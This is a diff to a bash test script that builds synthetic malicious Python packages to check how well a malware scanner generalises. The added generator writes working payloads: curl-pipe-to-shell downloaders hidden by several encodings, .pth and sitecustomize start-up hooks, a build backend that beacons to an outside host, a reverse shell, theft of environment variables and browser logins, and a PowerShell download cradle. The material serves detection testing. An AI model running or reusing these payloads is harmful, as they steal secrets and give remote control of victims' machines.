@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 27 small synthetic packages, each using one malware technique of
+# Generalisation probe: 47 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -185,6 +185,53 @@ mk pipurl <<'EOF'
 import subprocess, sys
 subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https://files.example-cdn.top/pkgs/helperlib-0.1.tar.gz'])
 EOF
+# Techniques of later campaigns, beyond a package's own `__init__.py`: an in-tree build
+# backend, .pth and sitecustomize start-up hooks, code in tests/ that setup.py calls,
+# encodings and a stego loader. Written by a Python generator (encoded payloads).
+python3 - <<'PYEOF'
+import base64, codecs, lzma, marshal, os, zlib
+pay = 'import os\nos.system("curl -s http://203.0.113.5/a.sh | sh")\n'
+b64 = base64.b64encode(pay.encode()).decode()
+def w(p, s):
+    os.makedirs(os.path.dirname(p), exist_ok=True)
+    open(p, 'w').write(s)
+def mk(name, init, setup=None):
+    w(f'{name}-1.0/setup.py', setup or f'from setuptools import setup\nsetup(name="{name}", version="1.0", packages=["{name}"])\n')
+    w(f'{name}-1.0/{name}/__init__.py', init)
+w('inbackend-1.0/pyproject.toml', '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[project]\nname = "inbackend"\nversion = "1.0"\n')
+w('inbackend-1.0/_build/backend.py', 'import os, socket, getpass, urllib.request, json\nfrom setuptools import build_meta as _orig\n\ndef _beacon():\n    d = json.dumps({"h": socket.gethostname(), "u": getpass.getuser(), "cwd": os.getcwd()}).encode()\n    urllib.request.urlopen("http://203.0.113.5/b", data=d)\n\n_beacon()\nbuild_wheel = _orig.build_wheel\nbuild_sdist = _orig.build_sdist\n')
+w('inbackend-1.0/inbackend/__init__.py', '')
+w('pthfile-1.0/pthfile/__init__.py', '')
+w('pthfile-1.0/pthfile-init.pth', "import os,base64;exec(base64.b64decode('%s'))\n" % b64)
+w('pthfile-1.0/setup.py', 'from setuptools import setup\nsetup(name="pthfile", version="1.0", packages=["pthfile"], data_files=[("", ["pthfile-init.pth"])])\n')
+mk('spacehide', 'VERSION = "1.0"' + ' ' * 400 + ';import base64;exec(base64.b64decode("%s"))\n' % b64)
+mk('stego', 'import requests\nfrom PIL import Image\nimg = Image.open(requests.get("https://i.imgur.com/abc123.png", stream=True).raw)\ncode = "".join(chr(p[0]) for p in img.getdata() if p[0])\nexec(code)\n')
+enc = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1')".encode('utf-16le')).decode()
+mk('psenc', 'import subprocess\nsubprocess.Popen("powershell -w hidden -nop -enc %s", shell=True)\n' % enc)
+mk('hexexec', 'exec(bytes.fromhex("%s").decode())\n' % pay.encode().hex())
+mk('rot13exec', 'import codecs\nexec(codecs.decode(%r, "rot13"))\n' % codecs.encode(pay, 'rot13'))
+blob = base64.b85encode(lzma.compress(marshal.dumps(compile(pay, '<x>', 'exec')))).decode()
+mk('lzmamarshal', 'import marshal, lzma, base64\nexec(marshal.loads(lzma.decompress(base64.b85decode(%r))))\n' % blob)
+w('testsimport-1.0/setup.py', 'from setuptools import setup\nfrom tests import helper\nhelper.check()\nsetup(name="testsimport", version="1.0", packages=["testsimport"])\n')
+w('testsimport-1.0/testsimport/__init__.py', '')
+w('testsimport-1.0/tests/__init__.py', '')
+w('testsimport-1.0/tests/helper.py', 'import os, requests\ndef check():\n    requests.post("https://203.0.113.5/e", json=dict(os.environ))\n')
+mk('antivm', 'import os, uuid, urllib.request, tempfile, subprocess\nmac = ":".join("%%02x" %% ((uuid.getnode() >> i) & 0xff) for i in range(40, -1, -8))\nif mac.startswith(("08:00:27", "00:0c:29", "00:50:56")):\n    raise SystemExit\np = os.path.join(tempfile.gettempdir(), "upd.exe")\nurllib.request.urlretrieve("http://203.0.113.5/upd.exe", p)\nsubprocess.Popen(p)\n')
+mk('resblob', 'import pkgutil, zlib\nexec(zlib.decompress(pkgutil.get_data(__name__, "data/blob.bin")))\n')
+os.makedirs('resblob-1.0/resblob/data', exist_ok=True)
+open('resblob-1.0/resblob/data/blob.bin', 'wb').write(zlib.compress(pay.encode()))
+w('sitecust-1.0/setup.py', 'from setuptools import setup\nsetup(name="sitecust", version="1.0", py_modules=["sitecustomize"])\n')
+w('sitecust-1.0/sitecustomize.py', 'import os, threading, urllib.request\ndef _r():\n    exec(urllib.request.urlopen("http://203.0.113.5/s.py").read())\nthreading.Thread(target=_r, daemon=True).start()\n')
+w('pthwrite-1.0/setup.py', 'import site, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        p = os.path.join(site.getsitepackages()[0], "_sys_update.pth")\n        open(p, "w").write("import os;os.system(\'curl -s http://203.0.113.5/a | sh\')\\n")\nsetup(name="pthwrite", version="1.0", cmdclass={"install": I})\n')
+mk('getattrobf', 'getattr(__import__("o" + "s"), "sys" + "tem")("curl -s http://203.0.113.5/a | sh")\n')
+mk('asyncshell', 'import asyncio\nasync def _m():\n    p = await asyncio.create_subprocess_shell("curl -s http://203.0.113.5/a | bash")\n    await p.wait()\nasyncio.run(_m())\n')
+mk('ptyshell', 'import socket, os, pty\ns = socket.socket()\ns.connect(("203.0.113.5", 9001))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("/bin/bash")\n')
+mk('chrlist', 'exec("".join(chr(c) for c in %r))\n' % [ord(c) for c in pay])
+w('cmdclassdl-1.0/setup.py', 'import os, urllib.request, tempfile\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        p = os.path.join(tempfile.gettempdir(), "helper.exe")\n        urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/1/2/helper.exe", p)\n        os.startfile(p)\nsetup(name="cmdclassdl", version="1.0", cmdclass={"install": PostInstall})\n')
+z = base64.b64encode(zlib.compress(pay.encode())).decode()
+mk('lambdaobf', '_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]));exec((_)(%r))\n' % z[::-1])
+mk('loginsteal', 'import os, shutil, requests\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\nshutil.copy(p, os.path.join(os.environ["TEMP"], "ld"))\nrequests.post("https://discord.com/api/webhooks/123/abc", files={"f": open(os.path.join(os.environ["TEMP"], "ld"), "rb")})\n')
+PYEOF
 for d in */; do
   "$bin" scan --format json --fail-on suspicious "$d" 2>/dev/null | python3 -c '
 import json, sys
